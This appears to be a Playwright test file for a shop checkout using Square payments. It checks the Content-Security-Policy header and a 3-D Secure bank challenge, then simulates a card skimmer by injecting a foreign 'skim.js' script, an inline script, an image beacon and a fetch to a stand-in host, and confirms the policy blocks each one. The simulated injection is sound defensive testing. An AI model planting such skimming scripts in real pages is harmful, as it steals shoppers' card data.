import { FOREIGN_HOST } from '../look-like-square.ts'
import { answerBank, bankFrame } from './answer-bank.ts'
import { arrivesAtOrder, buyer, capturesOf, fillAddress, fillCard, openCheckout, payButton } from './checkout-page.ts'
import { everybody, type Square, test } from './look-alike-test.ts'
import { expect } from './shop-test.ts'

/** What must hold with either of Square's environments. */
export function describeRealPolicy(square: Square): void {
  // One shop for all of them, one after the other.
  test.describe.configure({ mode: 'default' })

  test('a bank whose name is in no list asks for its code, and the order is paid', async ({
    page,
    lookAlike,
    visited,
  }) => {
    const policy = (await page.goto('/'))?.headers()['content-security-policy']
    expect(policy).toContain('squarecdn.com')
    expect(policy).not.toContain('elmwood')
    const dialog = await openCheckout(page)
    await fillAddress(dialog, buyer(`challenged-${square}`))
    await fillCard(page, { number: '4310000000201019' })
    await payButton(page).click()
    await expect(bankFrame(page).getByRole('heading', { name: 'Elmwood Credit Union' })).toBeVisible()
    await answerBank(page)
    expect(await capturesOf(await arrivesAtOrder(page), lookAlike.emulatorPort)).toBe(1)
    // All that Square needs was loaded, and the console has said nothing: not one of them was refused.
    expect([...visited].toSorted()).toEqual(everybody(square))
  })

  test.describe(() => {
    test.use({ isConsoleQuiet: false })

    test('a script of somebody else does not run, and nothing is sent to them', async ({ page, visited }) => {
      await openCheckout(page)
      await fillCard(page)
      await page.evaluate((host) => {
        window.refused = []
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
          if (disposition === 'enforce') window.refused.push(effectiveDirective)
        })
        const script = document.createElement('script')
        script.src = `https://${host}/skim.js`
        const inline = document.createElement('script')
        inline.textContent = 'window.stolen = true'
        document.head.append(script, inline)
        const image = document.createElement('img')
        image.src = `https://${host}/card.gif`
        void fetch(`https://${host}/card`).catch(() => undefined)
      }, FOREIGN_HOST)
      await expect
        .poll(() => page.evaluate(() => window.refused.toSorted()))
        .toEqual(['connect-src', 'img-src', 'script-src-elem', 'script-src-elem'])
      expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
      expect([...visited]).not.toContain(FOREIGN_HOST)
    })
  })
}

declare global {
  interface Window {
    refused: string[]
  }
}
